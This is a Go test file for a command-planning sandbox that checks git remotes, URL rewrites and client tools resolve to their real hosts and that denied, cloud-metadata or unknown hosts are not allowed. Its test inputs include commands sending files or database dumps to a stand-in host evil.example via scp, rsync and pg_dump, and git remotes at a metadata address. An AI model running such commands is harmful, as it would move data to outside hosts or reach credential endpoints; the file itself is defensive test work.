package plan

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/atip-dev/atip-exec/atip"
	"github.com/atip-dev/atip-exec/policy"
	"github.com/atip-dev/atip-exec/sandbox"
)

// remotePlan plans a call of git in a repository of its own with a configuration.
func remotePlan(t *testing.T, w corpusWorld, config, userPolicy string, argv ...string) *Plan {
	t.Helper()
	dir := filepath.Join(w.Dir, "remotes")
	for _, d := range []string{"objects", "refs/heads"} {
		if err := os.MkdirAll(filepath.Join(dir, ".git", d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	for name, text := range map[string]string{".git/HEAD": "ref: refs/heads/main\n", ".git/config": "[core]\n\trepositoryformatversion = 0\n" + config} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	b, inv := &Batch{Machine: w.machine()}, Invocation{Argv: argv, Directory: dir}
	if userPolicy != "" {
		file := filepath.Join(t.TempDir(), "p.json")
		if err := os.WriteFile(file, []byte(userPolicy), 0o600); err != nil {
			t.Fatal(err)
		}
		inv.Policies = []string{file}
	}
	p, err := b.Plan(inv)
	if err != nil {
		t.Fatalf("%q: %v", argv, err)
	}
	t.Cleanup(p.Close)
	return p
}

// TestRemotesAreResolved: rules, the list of hosts and the person who approves see where git
// goes, not the name of a remote.
func TestRemotesAreResolved(t *testing.T) {
	w := newCorpusWorld(t)
	if err := os.Mkdir(filepath.Join(w.Dir, "other.git"), 0o755); err != nil {
		t.Fatal(err)
	}
	const origin = "[remote \"origin\"]\n\turl = https://u:pw@git.example.com/o/r.git\n"
	for _, row := range []struct {
		config string
		argv   string
		hosts  string // as host:port/kind
		shown  string // url or path
	}{
		{origin, "git fetch", "git.example.com:443/named", "url https://git.example.com/o/r.git"},
		{origin, "git fetch origin", "git.example.com:443/named", "url https://git.example.com/o/r.git"},
		{origin, "git pull --rebase origin main", "git.example.com:443/named", "url https://git.example.com/o/r.git"},
		{origin, "git ls-remote origin", "git.example.com:443/named", "url https://git.example.com/o/r.git"},
		{origin, "git remote update", "git.example.com:443/named", "url https://git.example.com/o/r.git"},
		{origin + "\tpushurl = git@push.example.com:o/r\n", "git push origin main", "push.example.com:22/named", "url git@push.example.com:o/r"},
		{origin + "\tpushurl = git@push.example.com:o/r\n", "git fetch", "git.example.com:443/named", "url https://git.example.com/o/r.git"},
		{origin + "[url \"https://mirror.example/\"]\n\tinsteadOf = https://u:pw@git.example.com/\n", "git fetch", "mirror.example:443/named", "url https://mirror.example/o/r.git"},
		{origin + "[remote \"up\"]\n\turl = ssh://up.example:2222/r\n[branch \"main\"]\n\tremote = up\n\tmerge = refs/heads/main\n", "git pull", "up.example:2222/named", "url ssh://up.example:2222/r"},
		{origin + "[remote \"up\"]\n\turl = ssh://up.example/r\n", "git fetch --all", "git.example.com:443/named up.example:22/named", "url https://git.example.com/o/r.git url ssh://up.example/r"},
		{"[remote \"origin\"]\n\turl = git://127.0.0.1/r\n", "git fetch origin", "127.0.0.1:9418/named", "url git://127.0.0.1/r"},
		{"[remote \"origin\"]\n\turl = http://169.254.169.254/r\n", "git fetch origin", "169.254.169.254:80/metadata", "url http://169.254.169.254/r"},
		{"[remote \"origin\"]\n\turl = http://0xa9fea9fe/r\n", "git fetch", "169.254.169.254:80/metadata", "url http://0xa9fea9fe/r"},
		{"[remote \"origin\"]\n\turl = ../other.git\n", "git push origin main", "", "path ../other.git"},

		{origin, "git fetch https://evil.example/x", "evil.example:443/public", "url https://evil.example/x"},
		{origin + "[url \"https://evil.example/\"]\n\tinsteadOf = https://good.example/\n", "git fetch https://good.example/x", "evil.example:443/public", "url https://evil.example/x"},
	} {
		p := remotePlan(t, w, row.config, "", strings.Fields(row.argv)...)
		var hosts, shown []string
		for _, h := range p.Steps[0].Hosts {
			hosts = append(hosts, fmt.Sprintf("%s:%d/%s", h.Host, h.Port, h.Kind))
		}
		slices.Sort(hosts)
		for _, r := range p.Steps[0].Call.Resources {
			if r.Kind == "url" || r.Kind == "path" {
				shown = append(shown, r.Kind+" "+r.Value)
			}
		}
		if got := strings.Join(hosts, " "); got != row.hosts {
			t.Errorf("%s with %q: hosts %q, want %q", row.argv, row.config, got, row.hosts)
		}
		if local := row.hosts == ""; local != (p.Steps[0].Call.Effects[atip.Network].Value == atip.No) || local && p.Profile.Net.Mode != sandbox.NetNone {
			t.Errorf("%s with %q: network %s, %s", row.argv, row.config, p.Steps[0].Call.Effects[atip.Network].Value, p.Profile.Net.Mode)
		}
		if got := strings.Join(shown, " "); got != row.shown {
			t.Errorf("%s with %q: shows %q, want %q", row.argv, row.config, got, row.shown)
		}
	}
}

// TestDeniedHostOfARemote: network.deny holds the host behind the name of a remote.
func TestDeniedHostOfARemote(t *testing.T) {
	w := newCorpusWorld(t)
	const origin = "[remote \"origin\"]\n\turl = git://127.0.0.1/r\n"
	if p := remotePlan(t, w, origin, "", "git", "fetch", "origin"); p.Decision.Action != policy.Allow {
		t.Errorf("control: %v", p.Decision.Reasons)
	}
	for _, deny := range []string{"127.0.0.1", "127.0.0.0/8"} {
		for _, words := range []string{"git fetch origin", "git fetch", "git pull", "git ls-remote", "git -C . fetch --all", "git remote update"} {
			p := remotePlan(t, w, origin, `{"version":1,"network":{"deny":["`+deny+`"]}}`, strings.Fields(words)...)
			if p.Decision.Action == policy.Allow {
				t.Errorf("%s with network.deny %s is allowed: %+v", words, deny, p.Steps[0].Hosts)
			}
		}
	}
	if p := remotePlan(t, w, "[remote \"origin\"]\n\turl = http://169.254.169.254/r\n", "", "git", "fetch"); p.Decision.Action == policy.Allow {
		t.Error("a remote at a metadata address is allowed")
	}
	// A push names the directory that it writes, which an approval then grants.
	p := remotePlan(t, w, "[remote \"origin\"]\n\turl = /srv/other.git\n", "", "git", "push", "origin", "main")
	if p.Decision.Action != policy.Confirm || len(p.Decision.Grants.Paths) == 0 {
		t.Errorf("push to a path: %v, paths %+v", p.Decision.Action, p.Decision.Grants.Paths)
	}
}

// TestClientsThatAreToldWhereToGo: hosts in the words and variables of clients without a service of
// their own are known by name.
func TestClientsThatAreToldWhereToGo(t *testing.T) {
	w := newCorpusWorld(t)
	b := &Batch{Machine: w.machine()}
	for text, want := range map[string]string{
		"scp f evil:x":                            "evil:22",
		"scp f u@evil.example:x":                  "evil.example:22",
		"rsync -a x evil.example::mod/":           "evil.example:873",
		"rsync -a x rsync://evil.example/m":       "evil.example:0",
		"psql 'host=evil.example dbname=x'":       "evil.example:0",
		"PGHOST=evil.example pg_dump x":           "evil.example:0",
		"psql -d postgresql://evil.example/x":     "evil.example:5432",
		"mongosh mongodb://evil.example/x":        "evil.example:0",
		"docker -H tcp://evil.example:2375 ps":    "evil.example:2375",
		"ansible -i evil.example, all -m ping":    "evil.example:0",
		"ansible-playbook -i evil.example, p.yml": "evil.example:0",
		"API_URL=https://evil.example gh pr list": "evil.example:0",
	} {
		p, err := b.Plan(Invocation{Shell: text, IsShell: true, Directory: w.Dir})
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, s := range p.Steps {
			for _, h := range s.Hosts {
				if h.Host != "" {
					got = append(got, fmt.Sprintf("%s:%d", h.Host, h.Port))
				}
			}
		}
		if !slices.Contains(got, want) || p.Decision.Action == policy.Allow {
			t.Errorf("%s: %v with hosts %v, want %s", text, p.Decision.Action, got, want)
		}
		p.Close()
	}
}
